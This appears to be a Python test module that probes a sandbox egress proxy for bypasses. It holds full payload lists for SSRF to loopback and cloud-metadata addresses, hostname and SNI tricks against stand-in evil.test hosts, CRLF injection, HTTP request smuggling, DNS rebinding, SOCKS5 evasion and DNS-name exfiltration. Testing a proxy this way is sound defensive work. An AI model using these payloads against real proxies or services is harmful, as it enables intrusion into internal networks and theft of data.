# PX_*: ways round the decisions of the egress proxy. Each row does first what the policy allows, in the same way: where that fails the row is
# broken and says nothing. Only a refusal stops an attack: any other answer, 502 for one, says that the proxy has gone and tried.
import base64, ssl, threading, urllib.parse

PROXY = urllib.parse.urlsplit(os.environ["https_proxy"])
ALLOWED, OPAQUE, DENIED, UNLISTED = "allowed.test", "opaque.test", "denied.test", "unlisted.test"
REFUSALS = (400, 403, 407, 421, 501)


def works(got, what="what the policy allows"):
    if not got: raise Broken("%s fails: %r" % (what, got))
    return got


def proof(token):
    return "" if token is None else "Proxy-Authorization: Basic %s\r\n" % base64.b64encode(b"session:" + token.encode()).decode()


def dial(address=None):
    connection = socket.create_connection(address or (PROXY.hostname, PROXY.port), 5)
    connection.settimeout(5)
    return connection


def rest(connection):
    """All that comes until the other side closes; that it does so in time is part of every row."""
    data = b""
    try:
        while True:
            piece = connection.recv(65536)
            if not piece: return data
            data += piece
    except ConnectionError: return data
    except TimeoutError: raise Broken("neither an answer nor an end; so far: %r" % data[:80])
    finally: connection.close()


def ask(text, address=None):
    """What comes back for these bytes."""
    connection = dial(address)
    connection.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
    return rest(connection)


def status(answer):
    if not answer.startswith(b"HTTP/1."): raise Broken("no answer of HTTP: %r" % answer[:80])
    return int(answer.split(b" ", 2)[1][:3])


def tried(answer):
    """Whether an answer is anything but a refusal."""
    return status(answer) not in REFUSALS


def get(host, fields="", token=PROXY.password, path="/", named=None):
    """A request in absolute form."""
    return ask("GET http://%s%s HTTP/1.1\r\nHost: %s\r\n%s%sConnection: close\r\n\r\n" % (host, path, named or host, proof(token), fields))


def tunnel(authority, token=PROXY.password, address=None, proven=None):
    """A CONNECT: the connection and the answer's head."""
    connection = dial(address)
    proven = proof(token) if proven is None else proven
    connection.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (authority, authority, proven)).encode("latin-1"))
    head = b""
    while b"\r\n\r\n" not in head:
        piece = connection.recv(1)
        if not piece: break
        head += piece
    return connection, head


def opened(authority, **options):
    """Whether the proxy does anything but refuse a tunnel."""
    connection, head = tunnel(authority, **options)
    connection.close()
    return tried(head)


def secure(connection, name, text):
    """What a service answers over TLS whose client names `name`, `None` for no name; empty when the handshake or the connection breaks off."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        inner = context.wrap_socket(connection, server_hostname=name)
        inner.sendall(text.encode())
        return rest(inner)
    except TimeoutError: raise Broken("a handshake without end")
    except (ssl.SSLError, ConnectionError): return b""
    finally: connection.close()


def request(host, path="/"): return "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)


def through(host, name, named=None, port=443):
    """A request over TLS in a tunnel to `host`, by the server name `name`, with the Host `named`."""
    connection, head = tunnel("%s:%d" % (host, port))
    if tried(head): return secure(connection, name, request(named or name or host))
    connection.close()
    return b""


def served(answer): return b"200" in answer[:13] and b"\r\n\r\nallowed GET" in answer


def plain_works(): works(served(get(ALLOWED)))


def tunnel_works(): works(served(through(ALLOWED, ALLOWED)))


def everywhere(hosts, port=None):
    """Those hosts for which the proxy does anything but refuse, by either way."""
    plain_works()
    tunnel_works()
    return [host for host in hosts
            if opened("%s:%d" % (host, port or 443)) or tried(get(host if port is None else "%s:%d" % (host, port)))]


@attack("PX_DENIED_CONNECT", "B", "P")
def _():
    tunnel_works()
    return [host for host in (DENIED, UNLISTED) if opened(host + ":443")]


@attack("PX_DENIED_HTTP", "B", "P")
def _():
    plain_works()
    return [host for host in (DENIED, UNLISTED) if tried(get(host))]


@attack("PX_IP_LITERAL", "B", "P")
def _(): return everywhere(["1.1.1.1", "16843009", "0x01010101", "1.1", "[2606:4700::1111]"])


@attack("PX_LOOPBACK", "B", "P")
def _():
    return everywhere(
        ["localhost", "LOCALHOST", "localhost.", "127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.0.0.2",
         "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"], AIMS["loopback_port"])


@attack("PX_METADATA", "B", "P")
def _():
    return everywhere(["169.254.169.254", "2852039166", "0xa9fea9fe", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "[64:ff9b::a9fe:a9fe]",
                       "metadata.google.internal", "100.100.100.200"])


@attack("PX_PRIVATE", "B", "P")
def _(): return everywhere(["10.0.0.1", "192.168.0.1", "172.16.0.1", "100.64.0.1", "[fd12::1]", "[fe80::1]", "[::ffff:10.0.0.1]", "198.18.0.1", "224.0.0.1"])


@attack("PX_PORT", "B", "P")
def _():
    tunnel_works()
    return [port for port in (22, 25, 6379, 8443, AIMS["other_port"]) if opened("%s:%d" % (ALLOWED, port))]


@attack("PX_NAME_TRICKS", "B", "P")
def _():
    tunnel_works()
    works(served(through("ALLOWED.test.", ALLOWED)), "another spelling of the allowed name")
    names = ["allowed.test.evil.test", "evil-allowed.test", "allowed.test@evil.test", "evil.test@allowed.test", "allowed.test#.evil.test",
             "allowed.test?.evil.test", "allowed.test/.evil.test", "allowed.test\0.evil.test", "allowed.test%00.evil.test", "allowed.test%2eevil.test",
             "allowed.test\\.evil.test", "allowed\u3002test", "xn--allowed.test", "allowed.test..", ".allowed.test", "allowed..test", "sub.allowed.test",
             "allowed.tes", "[allowed.test]"]
    return [name for name in names if opened(name.encode().decode("latin-1") + ":443")]


@attack("PX_HOST_MISMATCH", "B", "P")
def _():
    plain_works()
    tunnel_works()
    heads = get(ALLOWED, named=DENIED), through(ALLOWED, ALLOWED, named=DENIED)
    return [number for number, head in enumerate(heads) if b"Host: " + DENIED.encode() in head]


def fronted(*names):
    """Hosts, inspected and opaque, that a client reaches by the server name of another."""
    for host in (ALLOWED, OPAQUE): works(served(through(host, host)), host)
    return [(host, name) for host in (ALLOWED, OPAQUE) for name in names if through(host, name, named=host)]


@attack("PX_SNI_MISMATCH", "B", "P")
def _(): return fronted(DENIED, UNLISTED)


@attack("PX_NO_SNI", "h", "P")
def _(): return fronted(None)


@attack("PX_RAW_IN_TUNNEL", "h", "P")
def _():
    def sent(data):
        connection, head = tunnel(ALLOWED + ":80")
        works(status(head) == 200, "the tunnel")
        connection.sendall(data)
        # What may become a request is waited for; nothing more comes.
        connection.shutdown(socket.SHUT_WR)
        return rest(connection)
    works(served(sent(request(ALLOWED).encode())), "HTTP in the tunnel")
    return [data for data in (b"SSH-2.0-OpenSSH_9.2\r\n", b"\0\1\2\3", b"\x16\3\1\0\5hello", b"\5\1\0", b"\n\n\n\n") if b"raw allowed" in sent(data)]


@attack("PX_CRLF", "B", "P")
def _():
    plain_works()
    works(b"X-Fine: 1" in get(ALLOWED, fields="X-Fine: 1\r\n"), "a header of one's own")
    fields = ["X: a\nX-Injected: 1\r\n", "X: a\rX-Injected: 1\r\n", " X-Injected: 1\r\n", "X-Injected : 1\r\n", "X: a\0X-Injected: 1\r\n",
              "X\tX-Injected: 1\r\n"]
    paths = ["/a\nX-Injected: 1", "/a\rX-Injected: 1", "/a X-Injected: 1", "/%0d%0aX-Injected:1", "/a\0X-Injected"]
    return [field for field in fields if tried(get(ALLOWED, fields=field))] + [path for path in paths if tried(get(ALLOWED, path=path))]


@attack("PX_SMUGGLE", "B", "P")
def _():
    def sent(fields, host=ALLOWED, path="/smuggled", body="0\r\n\r\n"):
        return ask("POST http://%s/ HTTP/1.1\r\nHost: %s\r\n%s%s\r\n%sGET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (
            ALLOWED, ALLOWED, proof(PROXY.password), fields, body, "http://%s%s" % (host, path), host, proof(PROXY.password)))
    works(b"/second" in sent("Transfer-Encoding: chunked\r\n", path="/second"), "a second request on one connection")
    tricks = ["Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 4\r\nContent-Length: 5\r\n", "Transfer-Encoding: xchunked\r\n",
              "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "Transfer-Encoding: chunked\r\nContent_Length: 30\r\n",
              "Transfer-Encoding : chunked\r\n", "Transfer-Encoding:\x0bchunked\r\n", "Content-Length: +5\r\n", "Content-Length: 5, 5\r\n",
              "X: a\nTransfer-Encoding: chunked\r\n", "Host: %s\r\nContent-Length: 5\r\n" % DENIED,
              "Connection: Content-Length\r\nContent-Length: 5\r\n"]
    got = [trick for trick in tricks if tried(answer := sent(trick)) or answer.count(b"HTTP/1.1 ") != 1]
    # The second request, rightly framed, is decided by itself.
    second = sent("Transfer-Encoding: chunked\r\n", host=DENIED)
    works(second.count(b"HTTP/1.1 ") == 2, "an answer to each of two requests")
    return got + ([DENIED] if second.count(b"HTTP/1.1 200 ") == 2 else [])


@attack("PX_REBIND", "B", "P")
def _():
    plain_works()
    got = [host for host in ("private.test", "inner.test") if tried(get(host))]
    # One address, then another, in turn: whichever is checked is the one that is dialled.
    answers = [get("turning.test") for _ in range(8)]
    works(any(map(served, answers)), "the first address of a name that turns")
    return got + [answer[:60].decode() for answer in answers if b"victim" in answer or (tried(answer) and not served(answer))]


def tokens(*tokens):
    """Proofs with which the proxy lets somebody in."""
    plain_works()
    tunnel_works()
    return [number for number, token in enumerate(tokens) if opened(ALLOWED + ":443", token=token) or tried(get(ALLOWED, token=token))]


@attack("PX_NO_AUTH", "h", "P")
def _():
    bearer = "Proxy-Authorization: Bearer %s\r\n" % PROXY.password
    return tokens(None, "", "x", PROXY.password[:-1], PROXY.password + "x") + [one for one in (bearer,) if opened(ALLOWED + ":443", proven=one)]


@attack("PX_OTHER_SESSION", "B", "P")
def _(): return tokens(AIMS["other_token"])


@attack("PX_RELAY", "B", "P")
def _():
    listener = socket.create_server(("127.0.0.1", 0))

    def pump(source, sink):
        try:
            while data := source.recv(65536): sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError: pass

    def serve():
        while True:
            near, far = listener.accept()[0], dial()
            for pair in ((near, far), (far, near)): threading.Thread(target=pump, args=pair, daemon=True).start()
    threading.Thread(target=serve, daemon=True).start()
    relay = listener.getsockname()
    works(opened(ALLOWED + ":443", address=relay), "the allowed host through the relay")
    return [place for place in (DENIED + ":443", "127.0.0.1:%d" % PROXY.port, "127.0.0.1:%d" % relay[1]) if opened(place, address=relay)]


@attack("PX_ADMIN", "B", "P")
def _():
    plain_works()
    paths = ("/", "/config", "/metrics", "/status", "/health", "/debug/pprof/", "*")
    got = [(path, token is None) for path in paths for token in (None, PROXY.password)
           if tried(ask("GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n%sConnection: close\r\n\r\n" % (path, PROXY.port, proof(token))))]
    # Nor at the listeners for programs that know no proxy.
    ports = [80, 443] if AIMS["all"] else []
    return got + [port for port in ports if ask(request("127.0.0.1", "/metrics"), ("127.0.0.1", port))]


@attack("PX_UNIX_HEADER", "B", "P")
def _():
    plain_works()
    return [name for name in ("X-Unix-Socket", "x-unix-socket") if tried(get(ALLOWED, fields="%s: %s\r\n" % (name, AIMS["unix"])))]


def socks(place, port, command=1, login=True):
    """A SOCKS5 request: the connection, and what the proxy says of it; 255 when it wants another login. `place` is a name, or an address's bytes."""
    connection = dial()
    user, token = b"session", PROXY.password.encode()
    connection.sendall(b"\5\1\2" if login else b"\5\1\0")
    if connection.recv(2, socket.MSG_WAITALL) != (b"\5\2" if login else b"\5\0"): return connection, 255
    if login:
        connection.sendall(bytes([1, len(user)]) + user + bytes([len(token)]) + token)
        works(connection.recv(2, socket.MSG_WAITALL) == b"\1\0", "the login")
    kind = bytes([3, len(place)]) + place.encode() if isinstance(place, str) else bytes([1 if len(place) == 4 else 4]) + place
    connection.sendall(bytes([5, command, 0]) + kind + struct.pack(">H", port))
    reply = connection.recv(10, socket.MSG_WAITALL)
    if len(reply) < 2: raise Broken("no reply of SOCKS: %r" % reply)
    return connection, reply[1]


def socks_works():
    connection, reply = socks(ALLOWED, 80)
    works(reply == 0, "SOCKS")
    connection.sendall(request(ALLOWED).encode())
    works(served(rest(connection)), "a request over SOCKS")


# "Not allowed by the ruleset", "command not supported", "address type not supported", another login.
SOCKS_REFUSALS = (2, 7, 8, 255)


def over_socks(*requests, **options):
    socks_works()
    return [number for number, (place, port) in enumerate(requests) if socks(place, port, **options)[1] not in SOCKS_REFUSALS]


@attack("PX_SOCKS_DENIED", "B", "P")
def _():
    return over_socks((DENIED, 443), (DENIED, 80), (UNLISTED, 443), (ALLOWED, 22), (ALLOWED + "\0.evil.test", 443), (ALLOWED + ".evil.test", 443),
                      (socket.inet_aton("1.1.1.1"), 443))


@attack("PX_SOCKS_LOOPBACK", "B", "P")
def _():
    port = AIMS["loopback_port"]
    return over_socks((socket.inet_aton("127.0.0.1"), port), (socket.inet_pton(socket.AF_INET6, "::1"), port), ("localhost", port), ("127.1", port),
                      ("2130706433", port), ("0", port), (socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1"), port),
                      (socket.inet_aton("169.254.169.254"), 80))


@attack("PX_SOCKS_UDP_BIND", "B", "P")
def _(): return over_socks((ALLOWED, 80), command=2) + over_socks((ALLOWED, 80), command=3)


@attack("PX_SOCKS_NO_AUTH", "h", "P")
def _(): return over_socks((ALLOWED, 80), login=False)


def by_itself(name, port):
    """Where a program that knows no proxy gets to when it dials a name."""
    if not AIMS["all"]: raise Absent("a resolver and listeners for programs that know no proxy")
    [address] = {found[4][0] for found in socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)}
    return address, port


def bare(name, named=None, port=80):
    """A request of such a program, over TLS where the port says so."""
    place = by_itself(name, port)
    return secure(dial(place), named or name, request(named or name)) if port == 443 else ask(request(named or name), place)


def bare_works(): works(all(served(bare(ALLOWED, port=port)) for port in (80, 443)), "a program without a proxy")


@attack("PX_BARE_DENIED", "B", "P")
def _():
    bare_works()
    return [(host, port) for host in (DENIED, UNLISTED, "localhost.evil.test", "private.test", "inner.test") for port in (80, 443)
            if tried(bare(host, port=port))]


@attack("PX_BARE_OTHER_NAME", "B", "P")
def _():
    bare_works()
    # The address of an allowed name, dialled with another name in Host or in the handshake.
    return [(port, answer[:60].decode()) for port in (80, 443) for answer in [bare(ALLOWED, named=DENIED, port=port)] if answer and tried(answer)]


@attack("PX_BARE_NO_NAME", "B", "P")
def _():
    bare_works()
    # Addresses that nobody has asked for stand for nothing.
    return [(address, port) for address in ("127.1.250.250", "127.0.0.1", "127.9.9.9") for port in (80, 443)
            if ask(request(ALLOWED), (address, port))]


@attack("PX_BARE_PORT", "B", "P")
def _():
    bare_works()
    return [port for port in (22, 25, 8080, AIMS["other_port"]) if not fails(lambda: dial(by_itself(ALLOWED, port)).close())]


@attack("PX_NAME_LEAK", "B", "P")
def _():
    bare_works()
    # That nobody outside is asked for it is seen outside.
    return [name for name in ("secret-in-a-name.evil.test", "x" * 63 + ".evil.test") if not by_itself(name, 443)[0].startswith("127.1.")]


def fails(function):
    try:
        function()
        return False
    except OSError: return True
